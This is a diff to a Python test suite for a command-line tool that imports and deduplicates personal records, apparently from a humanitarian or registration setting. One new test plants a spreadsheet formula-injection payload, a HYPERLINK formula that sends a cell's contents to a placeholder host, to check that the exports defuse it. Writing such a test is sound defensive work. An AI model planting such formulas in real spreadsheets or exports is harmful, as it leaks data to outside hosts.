@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import os
 import stat
 import subprocess
@@ -209,21 +210,25 @@ def test_import_validates_encrypts_and_is_idempotent(folder: Path) -> None:
     bad_site = "R3,XXX,2025-03-01,libyan_combatant,M,1990,Ali,Omar,,Obeidi,,,,LBY,,,,"
     (folder / "in.csv").write_text("\n".join([header, good, bad_phone, bad_site]) + "\n",
                                    encoding="utf-8")
-    first = ddr(folder, "import", "in.csv")
+    first = ddr(folder, "import", "in.csv", "--attest-consent")
     assert first.returncode == 0, first.stderr
-    assert "imported=1 already_there=0 rejected=2" in first.stdout
-    assert "R2: phone" in first.stderr
-    assert "R3: site" in first.stderr
-    again = ddr(folder, "import", "in.csv")
-    assert "imported=0 already_there=1 rejected=2" in again.stdout
+    assert first.stdout.splitlines()[-1] == (
+        "accepted=1 rejected=2 flagged=0 duplicates=0 skipped=0")
+    assert "row 3 rejected: phone: not a valid phone number" in first.stderr
+    assert "row 4 rejected: site: unknown site code" in first.stderr
+    again = ddr(folder, "import", "in.csv", "--attest-consent")
+    assert again.stdout.splitlines()[-1] == (
+        "accepted=0 rejected=2 flagged=0 duplicates=0 skipped=1")
     latin = ("R4,BEN,2025-04-01,libyan_combatant,M,1988-03-02,Mohamed,Ali,Salem,Elwarfalli,,,,"
              "LBY,+218912345678,,,")
     (folder / "more.csv").write_text("\n".join([header, latin]) + "\n", encoding="utf-8")
-    more = ddr(folder, "import", "more.csv")
-    assert "imported=1 already_there=0 rejected=0" in more.stdout
-    assert "new_pairs=1 " in more.stdout
+    more = ddr(folder, "import", "more.csv", "--attest-consent")
+    assert more.stdout.splitlines()[-1] == (
+        "accepted=1 rejected=0 flagged=0 duplicates=1 skipped=0")
+    assert "row 2 duplicate: match" in more.stderr
     missing = ddr(folder, "import", "nowhere.csv")
     assert missing.returncode == 2
+    assert "nowhere.csv: file not found" in missing.stderr
 
 
 def test_authorisations_from_the_command_line(folder: Path) -> None:
@@ -301,3 +306,20 @@ def test_db_upgrade_builds_missing_name_keys_and_reindex_rebuilds_them(
     assert bad.returncode == 2
     assert "--kind must be one of" in bad.stderr
     engine.dispose()
+
+
+def test_dedupe_writes_formula_like_record_ids_as_text(folder: Path) -> None:
+    lines = FIXTURE.read_text(encoding="utf-8").splitlines()
+    first_id = lines[1].split(",", 1)[0]
+    lines[1] = lines[1].replace(first_id, '=HYPERLINK("http://x.example/?"&B2)', 1)
+    lines[1] = '"' + lines[1].split(",", 1)[0].replace('"', '""') + '",' + lines[1].split(
+        ",", 1)[1]
+    (folder / "in.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    result = ddr(folder, "dedupe", "in.csv", "--pairs", "pairs.csv", "--clusters", "c.csv")
+    assert result.returncode == 0, result.stderr
+    for name in ("pairs.csv", "c.csv"):
+        text = (folder / name).read_text(encoding="utf-8")
+        assert "'=HYPERLINK(" in text
+        cells = [c for row in csv.reader(text.splitlines()) for c in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+
